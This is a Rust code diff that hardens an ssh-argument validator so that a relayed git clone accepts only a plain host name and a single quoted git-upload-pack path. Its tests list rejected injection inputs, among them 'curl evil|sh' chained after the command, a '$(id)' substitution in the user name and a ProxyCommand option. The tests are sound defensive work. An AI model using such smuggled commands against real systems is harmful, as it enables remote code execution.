@@ -57,21 +57,37 @@ pub fn decode(text: &str) -> Option<Vec<u8>> {
     base64::engine::general_purpose::STANDARD.decode(text).ok()
 }
 
+/// Where a relayed ssh goes: `user@host` as git gave it, the host alone
+/// (lowercase) and the port when `-p` named one.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SshTarget {
+    pub destination: String,
+    pub host: String,
+    pub port: Option<u16>,
+    /// The options (before the destination), as given.
+    pub options: Vec<String>,
+    pub command: String,
+}
+
 /// The ssh arguments den relays for a clone: the options git itself passes
-/// (`-p PORT`, `-4`, `-6`, `-o SendEnv=GIT_PROTOCOL`), one host, and one
-/// `git-upload-pack '…'` command. Anything else (another option, a
-/// `ProxyCommand`, a second command) is refused: the machine asks, but
-/// only for what a clone does.
-pub fn check_ssh_args(args: &[String]) -> Result<(), String> {
+/// (`-p PORT`, `-4`, `-6`, `-o SendEnv=GIT_PROTOCOL`), one destination of
+/// plain host-name characters, and one `git-upload-pack` of one
+/// shell-quoted path, nothing after it. Anything else (another option, a
+/// `ProxyCommand`, a second command, shell text after the path) is
+/// refused: the machine asks, but only for what a clone does.
+pub fn check_ssh_args(args: &[String]) -> Result<SshTarget, String> {
     let mut i = 0;
+    let mut port = None;
     while i < args.len() && args[i].starts_with('-') {
         match args[i].as_str() {
             "-4" | "-6" => {}
             "-p" => {
                 i += 1;
-                if !args.get(i).is_some_and(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_digit())) {
-                    return Err("`-p` without a port number".into());
-                }
+                port = Some(
+                    args.get(i)
+                        .and_then(|p| p.parse::<u16>().ok())
+                        .ok_or_else(|| "`-p` without a port number".to_string())?,
+                );
             }
             "-o" => {
                 i += 1;
@@ -83,11 +99,42 @@ pub fn check_ssh_args(args: &[String]) -> Result<(), String> {
         }
         i += 1;
     }
-    match &args[i..] {
-        [host, command] if !host.is_empty() && !host.starts_with('-') && command.starts_with("git-upload-pack '") => {
-            Ok(())
+    let [destination, command] = &args[i..] else {
+        return Err("not one destination and one `git-upload-pack` command".into());
+    };
+    let plain = |c: char| c.is_ascii_alphanumeric() || "._-@:[]".contains(c);
+    if destination.is_empty() || destination.starts_with('-') || !destination.chars().all(plain) {
+        return Err(format!("`{destination}` is not a host name"));
+    }
+    let path =
+        command.strip_prefix("git-upload-pack ").ok_or_else(|| "the command is not `git-upload-pack`".to_string())?;
+    if !is_one_quoted_word(path) {
+        return Err("the command is not `git-upload-pack` of one quoted path".into());
+    }
+    let host = destination.rsplit_once('@').map_or(destination.as_str(), |(_, h)| h).to_ascii_lowercase();
+    Ok(SshTarget {
+        destination: destination.clone(),
+        host,
+        port,
+        options: args[..i].to_vec(),
+        command: command.clone(),
+    })
+}
+
+/// One word as git quotes it for the shell (`sq_quote`): `'…'`, where a
+/// `'` or `!` inside is written `'\''` or `'\!'`, and nothing after.
+fn is_one_quoted_word(s: &str) -> bool {
+    let Some(mut rest) = s.strip_prefix('\'') else { return false };
+    loop {
+        let Some(close) = rest.find('\'') else { return false };
+        rest = &rest[close + 1..];
+        if rest.is_empty() {
+            return true;
         }
-        _ => Err("not a host and a `git-upload-pack` command".into()),
+        match rest.strip_prefix("\\'\'").or_else(|| rest.strip_prefix("\\!\'")) {
+            Some(r) => rest = r,
+            None => return false,
+        }
     }
 }
 
@@ -109,9 +156,13 @@ mod tests {
 
     #[test]
     fn what_git_passes_is_relayed() {
-        check_ssh_args(&v(&["git@example.com", "git-upload-pack 'org/repo.git'"])).unwrap();
-        check_ssh_args(&v(&["-o", "SendEnv=GIT_PROTOCOL", "-p", "2222", "-4", "me@h", "git-upload-pack '/r'"]))
+        let t = check_ssh_args(&v(&["git@Example.com", "git-upload-pack 'org/repo.git'"])).unwrap();
+        assert_eq!((t.host.as_str(), t.port, t.destination.as_str()), ("example.com", None, "git@Example.com"));
+        let t = check_ssh_args(&v(&["-o", "SendEnv=GIT_PROTOCOL", "-p", "2222", "-4", "me@h", "git-upload-pack '/r'"]))
             .unwrap();
+        assert_eq!((t.port, t.options.len()), (Some(2222), 5));
+        // git's quoting of a path with a quote and a `!` in it
+        check_ssh_args(&v(&["h", "git-upload-pack '/it'\\''s'\\!'x'"])).unwrap();
     }
 
     #[test]
@@ -126,6 +177,12 @@ mod tests {
             v(&["h", "git-upload-pack 'r'", "extra"]),
             v(&["-F", "/etc/passwd", "h", "git-upload-pack 'r'"]),
             v(&[]),
+            v(&["h", "git-upload-pack 'x'; curl evil|sh; ''"]),
+            v(&["h", "git-upload-pack 'x' y"]),
+            v(&["h", "git-upload-pack 'x"]),
+            v(&["a$(id)@h", "git-upload-pack 'r'"]),
+            v(&["h;x", "git-upload-pack 'r'"]),
+            v(&["-oProxyCommand=x", "git-upload-pack 'r'"]),
         ] {
             assert!(check_ssh_args(&bad).is_err(), "{bad:?}");
         }
